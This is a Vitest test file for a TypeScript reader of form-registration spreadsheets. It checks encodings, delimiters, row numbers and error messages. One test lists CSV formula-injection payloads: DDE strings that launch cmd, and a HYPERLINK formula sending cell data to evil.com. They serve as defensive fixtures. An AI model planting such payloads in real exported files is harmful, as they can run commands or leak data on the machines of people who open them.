import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, renameSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { InputError } from '../src/errors.js';
import { readTable } from '../src/io/read-table.js';
import { detectDelimiter } from '../src/io/read-csv.js';
import type { Table } from '../src/io/table.js';

const fx = (name: string) => join('fixtures', name);
const tmp = mkdtempSync(join(tmpdir(), 'samling-read-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));
const tmpFile = (name: string, data: string | Buffer) => {
  const p = join(tmp, name);
  writeFileSync(p, data);
  return p;
};
const col = (t: Table, header: string) => {
  const i = t.headers.indexOf(header);
  expect(i, `column ${JSON.stringify(header)}`).toBeGreaterThanOrEqual(0);
  return t.rows.map((r) => r.cells[i]);
};
async function inputError(p: Promise<unknown>): Promise<InputError> {
  const e = await p.then(() => undefined, (err: unknown) => err);
  expect(e).toBeInstanceOf(InputError);
  return e as InputError;
}

describe('Google Forms CSV (UTF-8 with BOM, CRLF, comma)', async () => {
  const file = fx('google-forms-nn.csv');
  const t = await readTable(file);

  it('detects encoding and delimiter, and keeps header text as typed', () => {
    expect(t.encoding).toBe('utf-8 with BOM');
    expect(t.delimiter).toBe(',');
    expect(t.file).toBe(file);
    expect(t.hash).toBe(createHash('sha256').update(readFileSync(file)).digest('hex'));
    expect(t.headers[0]).toBe('Tidsmerke'); // no BOM glued to the first header
    expect(t.headers).toContain('Namn ');
    expect(t.headers).toContain('Ønskjer du overnatting 11.–12. november?');
    expect(t.headers).toContain('Treng du overnatting 10.–11. november på grunn av lang reiseveg?');
    expect(t.headers).toHaveLength(11);
  });

  it('keeps every row, the blank one too, with cells as typed', () => {
    expect(t.rows).toHaveLength(31);
    const blank = t.rows.find((r) => r.cells.every((c) => c === ''));
    expect(blank?.row).toBe(14);
    expect(col(t, 'E-postadresse')).toContain('TROND.LID@example.org '); // nothing trimmed here
    expect(col(t, 'Stilling ')).toContain('Rådgjevar, klima og miljø');
  });

  it('numbers rows as a spreadsheet shows them: a note with a line break is still one row', () => {
    const lars = t.rows.find((r) => r.cells[2] === 'Lars Riise')!;
    expect(lars.row).toBe(15);
    expect(lars.cells[10]).toBe('Vegetar.\nMå reise kl. 11 fredag.');
    expect(t.rows.find((r) => r.cells[2] === 'Sunniva Øse')!.row).toBe(16);
    expect(t.rows.at(-1)!.row).toBe(32);
    expect(t.rows.at(-1)!.cells[0]).toBe('20.09.2021 kl. 08.15.30');
  });
});

describe('Microsoft Forms .xlsx', () => {
  it('reads the first sheet with numbers, text and date cells as wall-clock time', async () => {
    const t = await readTable(fx('microsoft-forms.xlsx'));
    expect(t).toMatchObject({ encoding: 'xlsx', delimiter: null, sheet: 'Sheet1' });
    expect(t.headers.slice(0, 7)).toEqual(['ID', 'Start time', 'Completion time', 'Email', 'Name', 'Navn', 'E-post']);
    expect(t.rows).toHaveLength(7);
    expect(t.rows[0]!.row).toBe(2);
    expect(col(t, 'ID')).toEqual([1, 2, 3, 4, 5, 6, 7]);
    expect(col(t, 'Email').every((c) => c === 'anonymous')).toBe(true);
    const ragnhild = t.rows.find((r) => r.cells[5] === 'Ragnhild Sande')!;
    expect(ragnhild.cells[2]).toEqual({ wallClock: '2021-09-15T23:30:00' });
    expect(col(t, 'Navn')).toContain('Eli Bakken');
  });

  it('gives the same wall-clock time whatever the machine time zone', async () => {
    const saved = process.env.TZ;
    try {
      const seen = [];
      for (const tz of ['UTC', 'Europe/Oslo', 'America/Los_Angeles', 'Pacific/Kiritimati']) {
        process.env.TZ = tz;
        const t = await readTable(fx('microsoft-forms.xlsx'));
        seen.push(JSON.stringify(col(t, 'Completion time')));
      }
      expect(new Set(seen).size).toBe(1);
      expect(seen[0]).toContain('"2021-09-15T23:30:00"');
      expect(seen[0]).toContain('"2021-09-16T08:02:40"');
    } finally {
      if (saved === undefined) delete process.env.TZ;
      else process.env.TZ = saved;
    }
  });

  it('reads Norwegian system columns, and another sheet by name', async () => {
    const t = await readTable(fx('microsoft-forms-nb.xlsx'));
    expect(t.sheet).toBe('Ark1');
    expect(t.headers.slice(0, 5)).toEqual(['ID', 'Starttidspunkt', 'Fullføringstidspunkt', 'E-postadresse', 'Navn']);
    expect(col(t, 'Fullføringstidspunkt')).toContainEqual({ wallClock: '2021-09-15T23:59:59' });
    expect(t.rows).toHaveLength(4);
    const other = await readTable(fx('microsoft-forms-nb.xlsx'), { sheet: 'oppsummering' });
    expect(other.sheet).toBe('Oppsummering');
    expect(other.headers).toEqual(['Antall svar', '4']);
  });

  it('names the sheets there are when the asked-for sheet is missing', async () => {
    const e = await inputError(readTable(fx('microsoft-forms-nb.xlsx'), { sheet: 'Svar' }));
    expect(e.file).toBe(fx('microsoft-forms-nb.xlsx'));
    expect(e.message).toContain('"Svar"');
    expect(e.message).toContain('"Ark1", "Oppsummering"');
  });
});

describe('other delimited layouts', () => {
  it('Nettskjema: semicolon, every field quoted', async () => {
    const t = await readTable(fx('nettskjema.csv'));
    expect(t).toMatchObject({ encoding: 'utf-8', delimiter: ';' });
    expect(t.headers.slice(0, 3)).toEqual(['$submission_id', '$created', 'fornavn']);
    expect(t.rows).toHaveLength(6);
    expect(col(t, '$created')).toContain('2021-09-15T22:00:00Z');
    expect(col(t, 'etternavn')).toContain('Ås');
  });

  it('event system: Windows-1252 keeps æøå and the en dash; a bare comma does not split a ; file', async () => {
    const t = await readTable(fx('event-system-1252.csv'));
    expect(t).toMatchObject({ encoding: 'windows-1252', delimiter: ';' });
    expect(t.headers).toEqual(['Registrert', 'Fornavn', 'Etternavn', 'E-post', 'Organisasjon', 'Tittel', 'Status', 'Overnatting']);
    expect(t.rows).toHaveLength(7);
    expect(col(t, 'Fornavn')).toEqual(['Åsmund', 'Bjørg', 'Kjell', 'Frøydis', 'Ørjan', 'René', 'Signe']);
    expect(col(t, 'Tittel')).toContain('Rådgiver – miljø');
    expect(col(t, 'Tittel')).toContain('Rådgiver, klima');
    expect(col(t, 'Status')).toContain('Avmeldt');
  });

  it('UTF-16 LE and BE with BOM keep æøå', async () => {
    const le = await readTable(fx('utf16.csv'));
    expect(le).toMatchObject({ encoding: 'utf-16le', delimiter: '\t' });
    expect(col(le, 'Navn')).toEqual(['Ståle Ørnes', 'Æsa Blåfjell', 'Åge Lø']);
    const text = readFileSync(fx('utf16.csv')).toString('utf16le', 2);
    const be = Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(text, 'utf16le').swap16()]);
    const t = await readTable(tmpFile('be.csv', be));
    expect(t.encoding).toBe('utf-16be');
    expect(t.rows.map((r) => r.cells)).toEqual(le.rows.map((r) => r.cells));
  });

  it('tab-separated .tsv and pipe-separated .txt', async () => {
    const tsv = await readTable(fx('small-tsv.tsv'));
    expect(tsv.delimiter).toBe('\t');
    expect(tsv.headers).toEqual(['Fornavn', 'Etternavn', 'Kommune', 'Overnatting']);
    expect(tsv.rows.map((r) => r.cells[1])).toEqual(['Øien', 'Lied', 'Ravn']);
    const pipes = await readTable(fx('pipes.txt'));
    expect(pipes.delimiter).toBe('|');
    expect(pipes.rows[1]!.cells).toEqual(['Bård Ekre', 'bard.ekre@example.org', 'Ålesund', '11.09.2021 09:30', 'Nei']);
  });

  it('formula payloads arrive untouched, leading tab and CR included', async () => {
    const t = await readTable(fx('injection.csv'));
    const names = col(t, 'Namn');
    expect(t.rows).toHaveLength(30);
    expect(names).toContain("\t=cmd|' /C calc'!A0");
    expect(names).toContain("\r=cmd|' /C calc'!A0");
    expect(names).toContain('=HYPERLINK("http://evil.com/"&A1, "Click")');
    expect(col(t, 'Kommune')).toContain("@SUM(1+1)*cmd|' /C calc'!A0");
    expect(t.rows.map((r) => r.row)).toEqual(t.rows.map((_, i) => i + 2)); // a CR in a cell is not a new line
  });

  it('files with a header but no name or municipality column still read (the column mapper reports them)', async () => {
    expect((await readTable(fx('bad/no-name-column.csv'))).headers).toEqual(
      ['Tidsmerke', 'E-postadresse', 'Kommune', 'Ønskjer du overnatting 11.–12. november?']);
    expect((await readTable(fx('bad/no-municipality-column.csv'))).rows).toHaveLength(2);
  });
});

describe('line endings, encodings and edge cases', () => {
  const lines = ['Namn,Kommune,Merknad', 'Kari Lie,Ørsta,"to\nlinjer"', 'Ola Vik,Volda,', '', 'Per Ås,Sula,ok'];
  for (const [name, eol] of [['LF', '\n'], ['CRLF', '\r\n'], ['CR', '\r']] as const) {
    it(`${name} line endings give the same cells and row numbers`, async () => {
      const t = await readTable(tmpFile(`eol-${name}.csv`, lines.join(eol).replace('to\nlinjer', `to${eol}linjer`) + eol + eol));
      expect(t.rows.map((r) => [r.row, r.cells[0]])).toEqual([[2, 'Kari Lie'], [3, 'Ola Vik'], [4, ''], [5, 'Per Ås']]);
      expect(t.rows[0]!.cells[2]).toBe(`to${eol}linjer`);
    });
  }

  it('short rows are kept as they are', async () => {
    const t = await readTable(tmpFile('short.csv', 'Namn;Kommune;Overnatting\nKari Lie;Ørsta\n'));
    expect(t.rows[0]!.cells).toEqual(['Kari Lie', 'Ørsta']);
  });

  it('a header with no data rows is 0 rows, not an error', async () => {
    const t = await readTable(tmpFile('header-only.csv', '\uFEFFNamn,Kommune\r\n'));
    expect(t.headers).toEqual(['Namn', 'Kommune']);
    expect(t.rows).toEqual([]);
  });

  it('bytes that are not valid UTF-8 are read as Windows-1252', async () => {
    const t = await readTable(tmpFile('latin.csv', Buffer.from('Namn,Kommune\nT\xf8ril \xc5s,\xd8rsta\n', 'latin1')));
    expect(t.encoding).toBe('windows-1252');
    expect(t.rows[0]!.cells).toEqual(['Tøril Ås', 'Ørsta']);
  });

  it('detects the delimiter that splits lines consistently, outside quotes', () => {
    expect(detectDelimiter('a;b;c\n1;"x,y,z";3\n4;5,5;6\n')).toBe(';');
    expect(detectDelimiter('"a;b",c\n"1;2",3\n')).toBe(',');
    expect(detectDelimiter('Namn\nKari\n', '\t')).toBe('\t');
  });

  it('files of a megabyte or more: Windows-1252 is read (in chunks), UTF-16, old .xls and renamed workbooks as before', async () => {
    const rows = Array.from({ length: 60_000 }, (_, i) => `Åse Ørnes ${i}\tVolda`);
    const utf16 = await readTable(tmpFile('big16.csv', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(['Navn\tKommune', ...rows].join('\r\n'), 'utf16le')])));
    expect(utf16).toMatchObject({ encoding: 'utf-16le', delimiter: '\t', rowCount: 60_000 });
    expect(utf16.rows[59_999]!.cells).toEqual(['Åse Ørnes 59999', 'Volda']);
    const big1252 = tmpFile('big1252.csv', Buffer.from(['Navn;Kommune', ...rows].join('\r\n').replaceAll('\t', ';'), 'latin1'));
    expect(statSync(big1252).size).toBeGreaterThanOrEqual(1 << 20); // big enough to be read in chunks
    const cp1252 = await readTable(big1252);
    expect(cp1252).toMatchObject({ encoding: 'windows-1252', delimiter: ';', rowCount: 60_000 });
    expect(cp1252.rows[59_999]!.cells).toEqual(['Åse Ørnes 59999', 'Volda']);
    const ole2 = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(1 << 20)]);
    await expect(readTable(tmpFile('old.csv', ole2))).rejects.toThrow(/old Excel \.xls file/);
    // A workbook of over a megabyte (text that does not compress much), renamed to .csv.
    const { default: ExcelJS } = await import('exceljs');
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('Skjema');
    ws.addRow(['Navn', 'Kommune', 'Merknad']);
    const noise = (i: number) => ['a', 'b', 'c'].map((k) => createHash('sha256').update(k + i).digest('base64')).join('');
    for (let i = 0; i < 12_000; i++) ws.addRow([`Person ${i}`, 'Volda', noise(i)]);
    const xlsx = Buffer.from(await wb.xlsx.writeBuffer());
    expect(xlsx.length).toBeGreaterThan(1 << 20);
    const renamed = await readTable(tmpFile('renamed-big.csv', xlsx));
    expect(renamed).toMatchObject({ encoding: 'xlsx', rowCount: 12_000 });
  });

  it('an .xlsx renamed to .csv is still read as a workbook', async () => {
    const t = await readTable(tmpFile('renamed.csv', readFileSync(fx('microsoft-forms.xlsx'))));
    expect(t.encoding).toBe('xlsx');
    expect(t.rows).toHaveLength(7);
  });
});

describe('bad input: one InputError naming the file', () => {
  it('an empty file', async () => {
    const e = await inputError(readTable(fx('bad/empty.csv')));
    expect(e.file).toBe(fx('bad/empty.csv'));
    expect(e.message).toMatch(/empty/);
    expect((await inputError(readTable(tmpFile('blank.csv', '\uFEFF\r\n\r\n')))).message).toMatch(/empty/);
  });

  it('an old .xls, by extension or by its OLE2 bytes, says what to save it as', async () => {
    const e = await inputError(readTable(fx('bad/old.xls')));
    expect(e.file).toBe(fx('bad/old.xls'));
    expect(e.message).toMatch(/\.xls/);
    expect(e.hint).toMatch(/\.xlsx.*CSV UTF-8/);
    const renamed = await inputError(readTable(tmpFile('old.csv', readFileSync(fx('bad/old.xls')))));
    expect(renamed.message).toMatch(/old Excel \.xls/);
  });

  it('a broken quote names the row where the broken record starts', async () => {
    const e = await inputError(readTable(fx('bad/broken-quote.csv')));
    expect(e.file).toBe(fx('bad/broken-quote.csv'));
    expect(e.row).toBe(4);
    expect(e.message).toMatch(/quote/);
    const later = await inputError(readTable(tmpFile('q.csv', 'Namn,Merknad\nKari,"a\nb"\nOla,"open\nPer,x\n')));
    expect(later.row).toBe(3); // Kari's two-line note is one row in a spreadsheet
  });

  it('an .xlsx that is not a zip, or a zip that is not a workbook', async () => {
    const e = await inputError(readTable(fx('bad/not-a-zip.xlsx')));
    expect(e.file).toBe(fx('bad/not-a-zip.xlsx'));
    expect(e.message).toMatch(/not a valid \.xlsx/);
    const zip = Buffer.from('504b0506000000000000000000000000000000000000', 'hex'); // an empty zip archive
    expect((await inputError(readTable(tmpFile('empty-zip.xlsx', zip)))).message).toMatch(/xlsx|sheets/);
  });

  it('a missing file, a folder, and formats that do not work', async () => {
    expect((await inputError(readTable(join(tmp, 'nope.csv')))).message).toBe('file not found');
    mkdirSync(join(tmp, 'svar.csv'));
    expect((await inputError(readTable(join(tmp, 'svar.csv')))).message).toMatch(/folder/);
    for (const name of ['svar.ods', 'svar.pdf', 'svar.json']) {
      const e = await inputError(readTable(tmpFile(name, 'x')));
      expect(e.file).toBe(join(tmp, name));
      expect(e.hint).toMatch(/\.xlsx, \.csv, \.tsv or \.txt/);
    }
  });

  it('a big file (read in chunks) that is saved again while it is read', async () => {
    const rows = Array.from({ length: 40_000 }, (_, i) => `Kari ${i};Volda;kari.${i}@example.org`);
    const text = 'Namn;Kommune;E-post\n' + rows.join('\n') + '\n';
    expect(text.length).toBeGreaterThan(1 << 20); // the size from which a file is read in chunks
    const path = tmpFile('saved-again.csv', text);
    const whole = await readTable(path);
    expect(whole.rowCount).toBe(40_000);
    expect(whole.hash).toBe(createHash('sha256').update(text).digest('hex'));
    // The organiser saves it again from Excel while the first rows are being read.
    let saved = false;
    const e = await inputError(readTable(path, {
      sink: () => () => {
        if (!saved) writeFileSync(path, text + 'Ola;Ørsta;ola@example.org\n');
        saved = true;
      },
    }));
    expect(e.message).toBe('the file changed while samling read it');
    expect(e.file).toBe(path);
    // Saved as Excel saves (a new file renamed over the old one): read as it was when opened.
    writeFileSync(path, text);
    let replaced = false;
    const t = await readTable(path, {
      sink: () => () => {
        if (!replaced) {
          writeFileSync(path + '.new', text + 'Ola;Ørsta;ola@example.org\n');
          renameSync(path + '.new', path);
        }
        replaced = true;
      },
    });
    expect(t.rowCount).toBe(40_000);
    expect(t.hash).toBe(whole.hash);
  });

  it('a binary file named .csv', async () => {
    const e = await inputError(readTable(tmpFile('binary.csv', Buffer.from([0x25, 0x50, 0x44, 0x46, 0, 1, 2, 0]))));
    expect(e.message).toMatch(/not a text file/);
  });
});
